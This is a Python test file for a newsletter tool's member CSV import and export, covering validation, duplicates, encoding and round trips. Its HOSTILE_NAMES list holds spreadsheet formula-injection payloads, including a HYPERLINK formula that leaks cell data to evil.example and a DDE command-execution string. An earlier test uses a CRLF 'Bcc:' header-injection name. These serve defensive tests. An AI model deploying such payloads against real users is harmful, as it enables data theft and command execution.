"""The member CSV: streaming import, validation by line and field, suppression, export."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import Engine
from sqlmodel import Session, select

from digest import members
from digest.db import session_scope
from digest.models import Subscriber, SubscriberTopic, Topic
from tests.member_helpers import EXAMPLE, HEADER, NOW, T0, stored, topics_of, write


def test_import_example(cli, engine: Engine) -> None:
    result = cli("subscribers", "import", str(EXAMPLE), "--now", NOW)
    assert result.exit_code == 0, result.output
    assert "Imported 6 members (6 new, 0 updated, 0 suppressed left unchanged)" in result.output
    rows = stored(engine)
    assert len(rows) == 6
    zoe = rows["zoe.mueller@example.org"]
    assert zoe.name == "Zoë Müller"
    assert (zoe.status, zoe.frequency, zoe.timezone, zoe.send_hour) == (
        "active",
        "daily",
        "Europe/Berlin",
        7,
    )
    assert zoe.created_at == T0 and zoe.updated_at == T0
    assert rows["tane.walker@example.com"].timezone == "Pacific/Auckland"
    assert rows["bob.nguyen@example.com"].frequency == "weekly"
    assert topics_of(engine, "priya.raman@example.org") == {"genetics", "immunology", "climate"}
    with Session(engine) as session:
        names = set(session.exec(select(Topic.name)))
    assert names == {"Stem Cells", "Nervous System", "Genetics", "Climate", "Space", "Immunology"}


def test_import_invalid_email_rejects_whole_file(cli, engine: Engine, tmp_path: Path) -> None:
    path = write(
        tmp_path,
        HEADER
        + "good@example.org,Good,Space,,,\n"
        + "also.good@example.org,Also,Climate,,,\n"
        + "bad-at-example.org,Bad,Space,,,\n",
    )
    result = cli("subscribers", "import", str(path))
    assert result.exit_code == 2
    assert (
        "members.csv: line 4: field 'email': invalid address 'bad-at-example.org'" in result.output
    )
    assert "nothing imported" in result.output
    assert stored(engine) == {}


@pytest.mark.parametrize(
    ("cells", "message"),
    [
        (
            "Space,daily,Mars/Olympus,7",
            "members.csv: line 3: field 'timezone': unknown time zone 'Mars/Olympus'",
        ),
        ("Space,daily,UTC,25", "members.csv: line 3: field 'send_hour': 25 is not a whole hour"),
        (
            "Space,fortnightly,UTC,7",
            "members.csv: line 3: field 'frequency': 'fortnightly' is not one of",
        ),
    ],
)
def test_import_bad_fields(cli, engine: Engine, tmp_path: Path, cells: str, message: str) -> None:
    path = write(tmp_path, HEADER + "a@example.org,A,Space,,,\n" + f"b@example.org,B,{cells}\n")
    result = cli("subscribers", "import", str(path))
    assert result.exit_code == 2
    assert message in result.output
    assert stored(engine) == {}


def test_import_skip_invalid_imports_good_rows(cli, engine: Engine, tmp_path: Path) -> None:
    path = write(
        tmp_path,
        HEADER
        + "a@example.org,A,Space,,,\n"
        + "broken,B,Space,,,\n"
        + "c@example.org,C,Climate,weekly,Asia/Kolkata,6\n"
        + "d@example.org,D,Space,,Nowhere/City,\n"
        + "A@Example.org,A again,Genetics,,,\n",
    )
    result = cli("subscribers", "import", str(path), "--skip-invalid")
    assert result.exit_code == 0, result.output
    assert "line 3: field 'email'" in result.output
    assert "line 5: field 'timezone': unknown time zone 'Nowhere/City'" in result.output
    assert "line 6: field 'email': a@example.org is a duplicate of line 2" in result.output
    assert "Imported 2 members (2 new, 0 updated, 0 suppressed left unchanged)" in result.output
    rows = stored(engine)
    assert set(rows) == {"a@example.org", "c@example.org"}
    assert rows["a@example.org"].name == "A"
    assert (rows["c@example.org"].frequency, rows["c@example.org"].timezone) == (
        "weekly",
        "Asia/Kolkata",
    )


def test_import_dry_run_writes_nothing(cli, engine: Engine) -> None:
    result = cli("subscribers", "import", str(EXAMPLE), "--dry-run")
    assert result.exit_code == 0, result.output
    assert "6 new" in result.output
    assert stored(engine) == {}


def test_reimport_updates_instead_of_duplicating(cli, engine: Engine, tmp_path: Path) -> None:
    assert cli("subscribers", "import", str(EXAMPLE), "--now", NOW).exit_code == 0
    path = write(
        tmp_path,
        HEADER
        + "ALICE.HART@example.org,Alice H.,Space,weekly,Europe/Paris,18\n"
        + "new.person@example.com,New Person,Climate,,,\n",
    )
    result = cli("subscribers", "import", str(path), "--now", "2025-03-02T10:00:00Z")
    assert result.exit_code == 0, result.output
    assert "Imported 2 members (1 new, 1 updated, 0 suppressed left unchanged)" in result.output
    rows = stored(engine)
    assert len(rows) == 7
    alice = rows["alice.hart@example.org"]
    assert (alice.name, alice.frequency, alice.timezone, alice.send_hour) == (
        "Alice H.",
        "weekly",
        "Europe/Paris",
        18,
    )
    assert alice.created_at == T0
    assert alice.updated_at == datetime(2025, 3, 2, 10, tzinfo=UTC)
    assert topics_of(engine, "alice.hart@example.org") == {"space"}
    with Session(engine) as session:
        assert len(session.exec(select(SubscriberTopic)).all()) == 13 - 2 + 1 + 1


def test_import_only_updates_columns_present(cli, engine: Engine, tmp_path: Path) -> None:
    assert cli("subscribers", "import", str(EXAMPLE)).exit_code == 0
    path = write(tmp_path, "Email,Send_Hour,notes\nbob.nguyen@example.com,21,VIP\n")
    assert cli("subscribers", "import", str(path)).exit_code == 0
    bob = stored(engine)["bob.nguyen@example.com"]
    assert (bob.name, bob.frequency, bob.send_hour) == ("Bob Nguyen", "weekly", 21)
    assert topics_of(engine, "bob.nguyen@example.com") == {"nervous system"}


@pytest.mark.parametrize("status", ["unsubscribed", "bounced"])
def test_import_never_reactivates_suppressed(
    cli, engine: Engine, tmp_path: Path, status: str
) -> None:
    assert cli("subscribers", "import", str(EXAMPLE), "--now", NOW).exit_code == 0
    with session_scope(engine) as session:
        members.set_status(session, "bob.nguyen@example.com", status, "test", T0)
    path = write(tmp_path, HEADER + "bob.nguyen@example.com,Robert,Space; Climate,daily,UTC,5\n")
    result = cli("subscribers", "import", str(path))
    assert result.exit_code == 0, result.output
    assert "Imported 1 members (0 new, 0 updated, 1 suppressed left unchanged)" in result.output
    bob = stored(engine)["bob.nguyen@example.com"]
    assert (bob.status, bob.name, bob.frequency, bob.send_hour) == (
        status,
        "Bob Nguyen",
        "weekly",
        8,
    )
    assert topics_of(engine, "bob.nguyen@example.com") == {"nervous system"}


def test_import_keeps_paused_and_pending(cli, engine: Engine, tmp_path: Path) -> None:
    path = write(tmp_path, HEADER + "p@example.org,P,Space,,,\n")
    assert cli("subscribers", "import", str(path), "--status", "pending").exit_code == 0
    assert stored(engine)["p@example.org"].status == "pending"
    assert stored(engine)["p@example.org"].confirmed_at is None
    assert cli("subscribers", "import", str(path)).exit_code == 0
    assert stored(engine)["p@example.org"].status == "pending"
    with session_scope(engine) as session:
        members.set_status(session, "p@example.org", "paused", "holiday", T0)
    assert cli("subscribers", "import", str(path)).exit_code == 0
    assert stored(engine)["p@example.org"].status == "paused"


def test_import_cleans_multiline_name_and_counts_physical_lines(
    cli, engine: Engine, tmp_path: Path
) -> None:
    path = write(
        tmp_path,
        "\ufeff"
        + HEADER
        + 'a@example.org,"Evil\r\nBcc: victim@example.com",Space,,,\n'
        + "b@example.org,B,Space,,Mars/Olympus,\n",
    )
    result = cli("subscribers", "import", str(path))
    assert result.exit_code == 2
    assert "members.csv: line 4: field 'timezone'" in result.output
    path = write(
        tmp_path,
        "\ufeff" + HEADER + 'a@example.org,"Evil\r\nBcc: victim@example.com\x07",Space,,,\n',
    )
    assert cli("subscribers", "import", str(path)).exit_code == 0
    name = stored(engine)["a@example.org"].name
    assert name == "Evil Bcc: victim@example.com"
    assert "\r" not in name and "\n" not in name


def test_import_file_errors(cli, engine: Engine, tmp_path: Path) -> None:
    no_email = write(tmp_path, "name,topics\nA,Space\n", "noemail.csv")
    result = cli("subscribers", "import", str(no_email))
    assert result.exit_code == 2
    assert "header has no 'email' column" in result.output
    big = write(tmp_path, HEADER + "a@example.org,A,Space,,,\n", "big.csv")
    cli.env["DIGEST_MAX_IMPORT_BYTES"] = "10"
    result = cli("subscribers", "import", str(big))
    assert result.exit_code == 2
    assert "over the import limit" in result.output
    assert stored(engine) == {}


@pytest.mark.parametrize(
    ("body", "message"),
    [
        (  # the quote would swallow the rows after it into one garbage name
            'e1@example.org,"Ann,Space,,,\n'
            "e2@example.org,Bob,Space,,,\n"
            "e3@example.org,C,Space,,,\n",
            "members.csv: line 3: a quoted field opened on this line is never closed",
        ),
        (  # unterminated at the very end of the file
            'e1@example.org,Ann,Space,,,\ne2@example.org,"Bob',
            "members.csv: line 4: a quoted field opened on this line is never closed",
        ),
        (
            'e1@example.org,"Ann"x,Space,,,\ne2@example.org,Bob,Space,,,\n',
            "members.csv: line 3: not valid CSV: ',' expected after '\"'",
        ),
    ],
)
def test_import_broken_quoting_rejects_file(
    cli, engine: Engine, tmp_path: Path, body: str, message: str
) -> None:
    path = write(tmp_path, HEADER + "a@example.org,A,Space,,,\n" + body)
    for flags in ((), ("--skip-invalid",)):
        result = cli("subscribers", "import", str(path), *flags)
        assert result.exit_code == 2, result.output
        assert message in result.output
        assert "Imported" not in result.output
        assert stored(engine) == {}


@pytest.mark.parametrize("bom", [b"", b"\xef\xbb\xbf"])
def test_import_not_utf8_names_the_true_line(
    cli, engine: Engine, tmp_path: Path, bom: bytes
) -> None:
    rows = [f"m{i}@example.org,Member {i},Space,,,\n".encode() for i in range(2, 3000)]
    rows[2499] = b"m2501@example.org,N\xe9e,Space,,,\n"  # Latin-1, on line 2501
    path = tmp_path / "latin.csv"
    path.write_bytes(bom + HEADER.encode() + b"".join(rows))
    result = cli("subscribers", "import", str(path))
    assert result.exit_code == 2
    assert "latin.csv: line 2501: not UTF-8 text (byte e9 at byte column 20)" in result.output
    assert stored(engine) == {}
    path.write_bytes(HEADER.encode() + b"a@example.org,Z\xfc,Space,,,\n")
    result = cli("subscribers", "import", str(path))
    assert result.exit_code == 2
    assert "latin.csv: line 2: not UTF-8 text" in result.output


def test_topic_too_long_once_case_folded_is_a_field_error(
    cli, engine: Engine, tmp_path: Path
) -> None:
    """The slug column holds 200 characters; 'ß' * 101 folds to 202 ('ss' each)."""
    long = "ß" * 101
    path = write(tmp_path, HEADER + f"a@example.org,A,{'ß' * 100},,,\nb@example.org,B,{long},,,\n")
    for flags in ((), ("--skip-invalid",)):
        result = cli("subscribers", "import", str(path), *flags)
        if not flags:
            assert result.exit_code == 2
            assert stored(engine) == {}
    assert result.exit_code == 0, result.output
    assert (
        "members.csv: line 3: field 'topics': topic longer than 200 characters once case-folded"
        in result.output
    )
    assert list(stored(engine)) == ["a@example.org"]
    assert topics_of(engine, "a@example.org") == {"ss" * 100}
    result = cli("subscribers", "add", "c@example.org", "--topic", f"Space;{long}")
    assert result.exit_code == 2
    assert "add: field 'topics': topic longer than 200 characters once case-folded" in result.output
    assert "c@example.org" not in stored(engine)


def test_import_many_rows_in_chunks(engine: Engine) -> None:
    lines = [HEADER] + [f"m{i}@example.org,M {i},Space;T{i % 7},,,\n" for i in range(1234)]
    with session_scope(engine) as session:
        report = members.import_members(
            session, members.read_member_csv(io.StringIO("".join(lines)), "big.csv"), T0
        )
    assert (report.new, report.invalid) == (1234, 0)
    with session_scope(engine) as session:
        lines[4] = "m3@example.org,Changed,Space,,,\n"
        report = members.import_members(
            session, members.read_member_csv(io.StringIO("".join(lines)), "big.csv"), T0
        )
    assert (report.new, report.updated) == (0, 1234)
    with Session(engine) as session:
        assert len(session.exec(select(Subscriber.id)).all()) == 1234
        assert (
            session.exec(select(Subscriber.name).where(Subscriber.email == "m3@example.org")).one()
            == "Changed"
        )
        rows = list(members.iter_members(session, topic="t3", batch_size=100))
    assert len(rows) == len([i for i in range(1234) if i % 7 == 3]) - 1  # m3 left T3


def test_export_round_trips_with_import(cli, engine: Engine, tmp_path: Path, db_url: str) -> None:
    assert cli("subscribers", "import", str(EXAMPLE), "--now", NOW).exit_code == 0
    assert cli("subscribers", "remove", "sam.okafor@example.com").exit_code == 0
    out = tmp_path / "export.csv"
    result = cli("subscribers", "export", "--output", str(out))
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8", newline="") as fh:
        exported = list(csv.DictReader(fh))
    assert list(exported[0]) == [
        "email",
        "name",
        "topics",
        "frequency",
        "timezone",
        "send_hour",
        "follows",
        "status",
    ]
    by_email = {r["email"]: r for r in exported}
    assert by_email["zoe.mueller@example.org"]["name"] == "Zoë Müller"
    assert by_email["zoe.mueller@example.org"]["topics"] == "Immunology; Stem Cells"
    assert by_email["sam.okafor@example.com"]["status"] == "unsubscribed"
    stdout_export = cli("subscribers", "export")
    assert list(csv.DictReader(io.StringIO(stdout_export.stdout))) == exported

    with open(EXAMPLE, encoding="utf-8", newline="") as fh:
        original = {r["email"]: r for r in csv.DictReader(fh)}
    for email, row in original.items():
        got = by_email[email]
        for key in ("name", "frequency", "timezone", "send_hour"):
            assert got[key] == row[key]
        assert set(members.parse_topics(got["topics"])) == set(members.parse_topics(row["topics"]))

    # Re-importing the export into an empty store reproduces the members.
    fresh = tmp_path / "fresh"
    fresh.mkdir()
    cli.env["DIGEST_DATABASE_URL"] = f"sqlite:///{fresh / 'digest.db'}"
    result = cli("subscribers", "import", str(out))
    assert result.exit_code == 0, result.output
    again = tmp_path / "again.csv"
    assert cli("subscribers", "export", "--output", str(again)).exit_code == 0
    with again.open(encoding="utf-8", newline="") as fh:
        reimported = list(csv.DictReader(fh))
    assert _profile(reimported) == _profile(exported)


def _profile(rows: list[dict[str, str]]) -> list[tuple[str, ...]]:
    keys = ("email", "name", "topics", "frequency", "timezone", "send_hour")
    return sorted(tuple(r[k] for k in keys) for r in rows)


# ---------------------------------------------------------------- spreadsheet formulas

HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click to verify")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "'=already quoted",
    "''+twice",
    "'Tis the season",
)


def test_export_neutralises_formulas_and_import_reads_them_back(
    cli, engine: Engine, tmp_path: Path
) -> None:
    """No exported cell starts with = + - @ (a spreadsheet would run it); importing the export
    gives back the same names, addresses and topics, and a leading apostrophe of its own."""
    with session_scope(engine) as session:
        for i, name in enumerate(HOSTILE_NAMES):
            record = members.MemberRecord(f"m{i}@example.org", name, ("Space",))
            members.add_member(session, record, T0)
        members.add_member(
            session, members.MemberRecord("-dash@example.org", "Dash", ("=Evil topic",)), T0
        )
    out = tmp_path / "export.csv"
    assert cli("subscribers", "export", "--output", str(out)).exit_code == 0
    with out.open(encoding="utf-8", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(" in out.read_text(encoding="utf-8")
    assert "'Tis the season" in cells  # nothing to neutralise: left as it is

    fresh = tmp_path / "fresh"
    fresh.mkdir()
    cli.env["DIGEST_DATABASE_URL"] = f"sqlite:///{fresh / 'digest.db'}"
    result = cli("subscribers", "import", str(out))
    assert result.exit_code == 0, result.output
    again = tmp_path / "again.csv"
    assert cli("subscribers", "export", "--output", str(again)).exit_code == 0
    assert again.read_text(encoding="utf-8") == out.read_text(encoding="utf-8")
    from digest.db import make_engine

    copy = make_engine(f"sqlite:///{fresh / 'digest.db'}")
    with Session(copy) as session:
        names = {m.email: m.name for m in session.exec(select(Subscriber))}
        topics = set(session.exec(select(Topic.name)))
    copy.dispose()
    assert [names[f"m{i}@example.org"] for i in range(len(HOSTILE_NAMES))] == list(HOSTILE_NAMES)
    assert names["-dash@example.org"] == "Dash" and "=Evil topic" in topics


def test_a_row_with_too_many_topics_is_refused(cli, engine: Engine, tmp_path: Path) -> None:
    """One row with 5,000 topics made them all public choices for ever."""
    topics = ";".join(f"Topic {i}" for i in range(5000))
    path = write(tmp_path, HEADER + f'big@example.org,Big,"{topics}",,,\n')
    result = cli("subscribers", "import", str(path))
    assert result.exit_code == 2
    assert (
        "members.csv: line 2: field 'topics': 5000 topics; a member has at most 50 "
        "(setting max_topics_per_member)" in result.output
    )
    with Session(engine) as session:
        assert session.exec(select(Topic)).all() == []
    added = cli("subscribers", "add", "a@example.org", "--topic", topics[:2000])
    assert added.exit_code == 2 and "a member has at most 50" in added.output
    cli.env["DIGEST_MAX_TOPICS_PER_MEMBER"] = "5000"
    assert cli("subscribers", "import", str(path)).exit_code == 0
    assert len(topics_of(engine, "big@example.org")) == 5000
